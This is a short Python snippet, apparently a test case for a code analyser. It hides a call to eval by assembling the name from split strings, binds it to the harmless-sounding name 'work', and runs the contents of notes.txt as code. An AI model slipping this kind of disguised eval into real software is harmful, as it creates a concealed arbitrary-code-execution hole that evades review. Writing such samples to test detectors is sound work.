# reaches: globals updated with builtins so that a plain name works
globals().update({"work": getattr(__builtins__, "e" + "val")})
work(open("notes.txt").read())
